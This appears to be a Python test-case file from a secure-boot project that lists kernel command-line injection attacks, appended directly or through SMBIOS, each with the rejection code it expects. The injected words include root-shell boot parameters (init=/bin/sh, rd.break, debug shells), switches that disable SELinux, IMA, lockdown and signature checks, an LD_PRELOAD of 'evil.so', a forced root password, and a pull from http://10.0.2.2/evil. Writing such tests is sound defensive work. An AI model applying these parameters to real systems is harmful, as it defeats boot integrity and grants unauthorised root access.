"""Attacks on what stands around the UKI: words, SMBIOS, firmware (threats A27 to A29)."""

from case import Case, Set

ROOT = (Set(),)
CANARY = (Set("canary", layout="plain"),)
DIRECT = {"firmware": "direct", "cmdline": "root=PARTLABEL=lintel_1"}


def append(name, code, words, **fields):
    """The attacker adds words to the line of a machine that would boot without them."""
    return Case(f"a28-{name}", f"LINTEL-E-{code}", appended=words, **{"sets": ROOT, **DIRECT, **fields})


CASES = [
    append("init", "CMDLINE-UNSIGNED", "init=/bin/sh"),
    append("init-rd", "CMDLINE-UNSIGNED", "rd.init=/bin/sh"),
    append("init-argument", "CMDLINE-UNSIGNED", "-- --unit=rescue.target"),
    append("debug-shell", "CMDLINE-UNSIGNED", "systemd.debug_shell"),
    append("break", "CMDLINE-UNSIGNED", "rd.break=pre-mount"),
    append("rescue", "CMDLINE-UNSIGNED", "rescue"),
    append("mask", "CMDLINE-UNSIGNED", "systemd.mask=systemd-journald.service"),
    append("verity-off", "POLICY", "systemd.verity=0"),
    append("dm-create", "CMDLINE-UNSIGNED", "dm-mod.create=root,,,ro,0_8_linear_/dev/vda1_0"),
    append("policy-wider", "POLICY", "systemd.image_policy=root=unprotected", sets=CANARY),
    append("policy-anything", "ROOT-UNPROTECTED", "systemd.image_policy=*", sets=CANARY),
    append("roothash", "ROOT-MISSING", "roothash=" + "ab" * 32, sets=CANARY,
           cmdline="root=PARTLABEL=lintel_1 lintel.timeout=5"),
    append("root-plain", "ROOT-UNPROTECTED", "root=/dev/vda1", sets=CANARY),
    append("unknown-word", "CMDLINE", "lintel.trust=1"),
    append("lockdown", "CMDLINE-UNSIGNED", "lockdown=none"),
    append("ipe", "CMDLINE-UNSIGNED", "ipe.enforce=0"),
    append("module-signatures", "CMDLINE-UNSIGNED", "module.sig_enforce=0"),
    *(append(name, "CMDLINE-UNSIGNED", word, checked=False) for name, word in (
        ("single", "single"),
        ("emergency", "emergency"),
        ("unit", "systemd.unit=emergency.target"),
        ("run", "systemd.run=/bin/sh"),
        ("volatile", "systemd.volatile=yes"),
        ("sulogin", "systemd.setenv=SYSTEMD_SULOGIN_FORCE=1"),
        ("environment", "LD_PRELOAD=/run/evil.so"),
        ("credential", "systemd.set_credential=passwd.plaintext-password.root:known"),
        ("modules-load", "modules-load=evil"),
        ("loadpin", "loadpin.enforce=0"),
        ("verity-signatures", "dm-verity.require_signatures=0"),
        ("selinux", "selinux=0"),
        ("ima", "ima_appraise=off"),
        ("lsm", "lsm=yama"),
        ("security", "security=none"),
        ("enforcing", "enforcing=0"),
        ("initcall", "initcall_blacklist=ipe_init"),
        ("crash-shell", "systemd.crash_shell=1"),
        ("rd-shell", "rd.shell"),
        ("break-systemd", "rd.systemd.break=pre-mount"),
        ("wants", "systemd.wants=debug-shell.service"),
        ("mount-extra", "systemd.mount-extra=/dev/vda1:/usr/bin"),
        ("pull", "systemd.pull=raw,machine:evil:http://10.0.2.2/evil"),
        ("ask", "lintel.ask=passphrase"),
    )),
    append("usrhash-malformed", "CMDLINE", "usrhash=0xdead", checked=False),
    # through firmware: the stub takes words from SMBIOS, and measures them
    append("smbios-init", "CMDLINE-UNSIGNED", "init=/bin/sh", firmware="secureboot", cmdline=""),
    append("smbios-verity-off", "POLICY", "systemd.verity=0", firmware="secureboot", cmdline="", checked=False),
]
